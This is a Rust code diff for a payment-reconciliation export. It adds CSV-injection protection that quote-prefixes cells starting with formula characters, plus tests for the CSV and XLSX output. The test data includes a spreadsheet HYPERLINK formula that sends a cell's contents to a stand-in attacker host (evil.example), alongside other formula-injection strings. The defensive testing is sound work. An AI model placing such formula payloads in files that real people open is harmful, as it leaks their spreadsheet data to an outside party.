@@ -176,6 +176,7 @@ fn verdict_text(v: Verdict) -> &'static str {
         Verdict::OnlyAtChannel => "仅渠道 only at the channel",
         Verdict::AmountDiffers => "金额不符 amount differs",
         Verdict::StateDiffers => "状态不符 state differs",
+        Verdict::Unreadable => "无法读取 unreadable row",
     }
 }
 
@@ -210,6 +211,10 @@ fn report_tables(r: &Report) -> Vec<Table> {
                     l.differences
                         .iter()
                         .map(|d| format!("{}: {} ≠ {}", d.field, d.ours, d.theirs))
+                        .chain(l.problem.iter().map(|p| match &p.raw {
+                            Some(raw) => format!("{p} — {raw}"),
+                            None => p.to_string(),
+                        }))
                         .collect::<Vec<_>>()
                         .join("; "),
                 ),
@@ -245,8 +250,21 @@ fn report_tables(r: &Report) -> Vec<Table> {
     ]
 }
 
-/// CSV: a text cell that Excel would turn into a number is written as `="…"`, which every
-/// spreadsheet shows as the text itself.
+/// A text cell as CSV writes it. Digits only: `="…"`, which every spreadsheet shows as the
+/// text itself (never 9.14E+17). Text that a spreadsheet would run as a formula (it starts
+/// with `=`, `+`, `-`, `@`, tab or CR; it comes from cashiers, channels and statements) gets a
+/// leading `'` (OWASP "CSV injection"), so it is shown, never evaluated. Amounts are not text
+/// cells: a negative amount stays a number.
+fn csv_text(s: &str) -> String {
+    if !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit()) {
+        format!("=\"{s}\"")
+    } else if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
+    } else {
+        s.to_owned()
+    }
+}
+
 fn csv_bytes(tables: &[Table]) -> Result<Vec<u8>, ExportError> {
     // A BOM first, so Excel opens the Chinese text as UTF-8.
     let mut w = csv::WriterBuilder::new()
@@ -262,10 +280,7 @@ fn csv_bytes(tables: &[Table]) -> Result<Vec<u8>, ExportError> {
             let fields: Vec<String> = row
                 .iter()
                 .map(|c| match c {
-                    Cell::Text(s) if !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit()) => {
-                        format!("=\"{s}\"")
-                    }
-                    Cell::Text(s) => s.clone(),
+                    Cell::Text(s) => csv_text(s),
                     Cell::Money(f) => f.to_yuan_string(),
                     Cell::Count(n) => n.to_string(),
                 })
@@ -441,5 +456,137 @@ mod tests {
             csv.contains(&head.to_string()) && csv.contains(&format!("--anchor {}:", head.id)),
             "the file ends with the chain head and how to check it: {csv}"
         );
+    }
+
+    const FORMULAS: [&str; 6] = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
+        "+1+1",
+        "@SUM(A1)",
+        "-2+3",
+        "\t=1",
+        "\r=1",
+    ];
+
+    fn cells(csv: &[u8]) -> Vec<String> {
+        csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(csv)
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+            .collect()
+    }
+
+    fn report_with(texts: &[&str]) -> Report {
+        use crate::reconcile::{reconcile, ChannelLine, LineState, Source, StatementProblem};
+        let theirs: Vec<ChannelLine> = texts
+            .iter()
+            .map(|t| ChannelLine {
+                code: (*t).to_owned(),
+                channel_id: Some((*t).to_owned()),
+                face_value: Some(Fen(-1000)),
+                state: LineState::Redeemed,
+                at: None,
+                statement_row: Some(2),
+            })
+            .collect();
+        let unreadable: Vec<StatementProblem> = texts
+            .iter()
+            .map(|t| StatementProblem {
+                row: Some(9),
+                column: None,
+                message: (*t).to_owned(),
+                raw: Some((*t).to_owned()),
+            })
+            .collect();
+        reconcile(
+            "2026-11-22".parse().unwrap(),
+            ChannelKind::Shoubei,
+            Source::Statement {
+                file: "s.csv".into(),
+            },
+            &[],
+            &theirs,
+            &unreadable,
+        )
+    }
+
+    #[test]
+    fn formula_text_from_outside_is_neutralised_in_the_csv_and_shown_unchanged_after_the_quote() {
+        // A cashier's name, a statement's codes, channel ids and unreadable rows: all outside text.
+        let ledger = Ledger::open_in_memory(Mode::Sandbox).unwrap();
+        let at = 1_795_000_000_000;
+        for (i, f) in FORMULAS.iter().enumerate() {
+            ledger
+                .begin_attempt(NewAttempt {
+                    created_ms: at + i as i64,
+                    channel: ChannelKind::Shoubei,
+                    platform: None,
+                    code: format!("67953392292{i}"),
+                    count: 1,
+                    cashier: (*f).to_owned(),
+                    face_value: Some(Fen(1000)),
+                    price: None,
+                    remaining_before: None,
+                    prepare: Default::default(),
+                })
+                .unwrap();
+        }
+        let day = ledger.business_day_rule().day_of(at);
+        let log = ledger.day_log(day, &DayFilter::default()).unwrap();
+        let log_cells = cells(&export_day_log(&ledger, &log, ExportFormat::Csv).unwrap());
+        let report_cells =
+            cells(&export_report(&report_with(&FORMULAS), ExportFormat::Csv).unwrap());
+        for f in FORMULAS {
+            let want = format!("'{f}");
+            assert!(
+                log_cells.contains(&want),
+                "the cashier {f:?} is written as {want:?}: {log_cells:?}"
+            );
+            assert!(
+                report_cells.iter().filter(|c| **c == want).count() >= 2,
+                "the statement's code and channel id {f:?} are neutralised: {report_cells:?}"
+            );
+        }
+        let dangerous = |c: &&String| {
+            c.starts_with(['+', '-', '@', '\t', '\r'])
+                || (c.starts_with('=') && !c.starts_with("=\""))
+        };
+        let left: Vec<_> = log_cells
+            .iter()
+            .chain(&report_cells)
+            .filter(dangerous)
+            .collect();
+        assert_eq!(
+            left,
+            vec!["-10.00"; FORMULAS.len()],
+            "only our own negative amounts may start with a sign; no other cell can run"
+        );
+        assert!(
+            log_cells.contains(&"=\"679533922920\"".to_owned()),
+            "a code of digits keeps its text formula"
+        );
+    }
+
+    #[test]
+    fn formula_text_is_a_plain_string_in_the_xlsx() {
+        use calamine::{Data, Reader, Xlsx};
+        let bytes = export_report(&report_with(&FORMULAS), ExportFormat::Xlsx).unwrap();
+        let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes))
+            .expect("the export is an xlsx");
+        let formulas = book.worksheet_formula("对账").unwrap();
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "no cell of the sheet is a formula"
+        );
+        let range = book.worksheet_range("对账").unwrap();
+        for f in FORMULAS {
+            assert!(
+                // XML may hand a leading CR back as a line break; the text is what matters.
+                range.used_cells().any(|(_, _, c)| matches!(c,
+                    Data::String(s) if s.trim_start() == f.trim_start())),
+                "{f:?} is a text cell holding its text"
+            );
+        }
     }
 }
